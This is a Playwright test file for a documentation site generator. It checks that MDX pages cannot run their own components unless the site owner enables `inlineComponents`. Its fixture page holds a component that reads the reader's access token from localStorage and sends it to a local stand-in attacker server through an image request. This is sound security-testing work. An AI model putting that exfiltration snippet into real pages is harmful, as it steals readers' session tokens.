import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { runDocsgen, startServe, type RunningServer } from '../helpers/cli.ts';
import { type FakeProvider, GOOD_TOKEN, startFakeProvider } from '../helpers/fake-provider.ts';
import { editConfig, repoRoot, tempProject, type TempProject } from '../helpers/temp-project.ts';
import { handOffUrl } from './gate-fixtures.ts';
import { expect, test } from './support/sites.ts';

/**
 * Who may run code in the reader's browser (issue 39). A page writer defines a component on the page that reads the
 * access token the gate stores (localStorage "token") and sends it to another origin as an image, which the
 * Content-Security-Policy allows (images come from anywhere). With the default config the build refuses the page;
 * with `"mdx": { "inlineComponents": true }` the site owner has chosen to run page writers' code, and it does run,
 * with the reader's token. Both settings, in Chromium, through the real gate and a fake provider.
 */
let provider: FakeProvider;
let collector: { url: string; hits: string[]; close(): Promise<void> };
let served: RunningServer | undefined;

const PAGE = 'content/docs/guide/token.mdx';

/** A server on another origin that records what reaches it, as an attacker's would. */
async function startCollector(): Promise<typeof collector> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(204).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    hits,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

/** The basic fixture, gated by the fake provider, with the page whose own component reads the token. */
function tokenProject(mdx: Record<string, unknown>): TempProject {
  const project = tempProject('basic');
  editConfig(project, (config) => {
    config.gate = { providerUrl: `${provider.url}/`, mainAppUrl: provider.mainAppUrl };
    config.mdx = mdx;
  });
  project.write(
    PAGE,
    [
      '---',
      'title: Token',
      '---',
      '',
      'export const LeToken = () => {',
      "  const token = localStorage.getItem('token');",
      `  new Image().src = '${collector.url}/coleta?t=' + encodeURIComponent(token);`,
      '  return <output data-testid="token-lido">{token}</output>;',
      '};',
      '',
      'O token de quem lê: <LeToken />',
      '',
    ].join('\n'),
  );
  return project;
}

function build(project: TempProject) {
  const out = `${project.dir}/site`;
  return { out, ...runDocsgen(['build', '--config', `${project.dir}/docs.config.json`, '--out', out], repoRoot) };
}

test.beforeAll(async () => {
  provider = await startFakeProvider();
  collector = await startCollector();
});

test.afterAll(async () => {
  await served?.stop();
  await collector.close();
  await provider.close();
});

test('by default a page cannot run its own component: the build fails at its export and writes nothing', () => {
  const project = tokenProject({});
  const { out, status, stderr } = build(project);
  expect(status).toBe(1);
  expect(stderr).toContain(
    `${PAGE}:5:1: <LeToken> is a component this page defines, and a page's own components do not run in the reader's browser unless the site allows them: move LeToken to a file such as src/components/LeToken.jsx and import it`,
  );
  expect(stderr).toContain('"mdx": { "inlineComponents": true }');
  expect(fs.existsSync(out)).toBe(false);
});

test('with mdx.inlineComponents the site owner lets page code run: it reads the reader token and can send it away', async ({
  page,
}) => {
  const project = tokenProject({ inlineComponents: true });
  const { out, status, stderr } = build(project);
  expect(status, stderr).toBe(0);
  served = await startServe(out, repoRoot);
  provider.allowedOrigins = new Set([served.url]);
  // The real gate: the hand-off validates the token with the provider and stores it, then the page loads.
  await page.goto(handOffUrl(served.url, GOOD_TOKEN, '/docs/guide/token'));
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Token');
  await expect(page.getByTestId('token-lido')).toHaveText(GOOD_TOKEN);
  await expect.poll(() => collector.hits).toContain(`/coleta?t=${GOOD_TOKEN}`);
});
